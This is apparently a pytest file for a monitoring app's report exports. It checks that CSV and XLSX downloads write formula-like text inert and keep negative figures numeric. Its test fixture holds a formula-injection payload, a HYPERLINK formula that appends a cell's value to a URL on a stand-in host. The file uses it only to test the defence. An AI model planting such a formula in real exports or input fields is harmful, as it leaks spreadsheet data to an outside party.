"""Report downloads: text a spreadsheet would run as a formula is written inert, in CSV and XLSX
alike, while figures (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from monitoring.reports import exports
from monitoring.reports.schemas import BudgetUse

# A round named by whoever set up the budget in assets: free text, as far as monitoring knows.
ROUND = '=HYPERLINK("https://x.invalid/?"&B2,"open")'
BUDGET = BudgetUse(
    fund_id=uuid.UUID(int=1),
    fund_partner_id=None,
    budget_id=uuid.UUID(int=2),
    round=ROUND,
    period_start=date(2026, 1, 1),
    period_end=date(2026, 12, 31),
    allocated=Decimal("1000.00"),
    reserved=Decimal("400.00"),
    spent=Decimal("720.00"),
    available=Decimal("-120.00"),  # overspent
    orders_reserved=1,
    orders_delivered=2,
    orders_waiting=-1,  # not a real figure: a negative int, to see it stay one
)
COLUMNS = ["round", "allocated", "available", "orders_waiting", "period_start"]


def test_csv_neutralises_formula_text_and_keeps_numbers() -> None:
    lines = exports.table([BUDGET], COLUMNS)
    content = exports.to_csv(lines).decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(content)))
    assert row["round"] == "'" + ROUND
    assert row["available"] == "-120.00"
    assert row["orders_waiting"] == "-1"
    assert row["period_start"] == "2026-01-01"


def test_xlsx_neutralises_formula_text_and_keeps_numbers_numeric() -> None:
    lines = exports.table([BUDGET], COLUMNS)
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(lines, "budgets")))
    sheet: Any = workbook.active
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert cells["round"].data_type == "s"  # text, not a formula
    assert cells["round"].value == "'" + ROUND
    assert cells["available"].data_type == "n"
    assert Decimal(str(cells["available"].value)) == Decimal("-120.00")
    assert cells["orders_waiting"].data_type == "n"
    assert cells["orders_waiting"].value == -1
    assert cells["allocated"].value == 1000
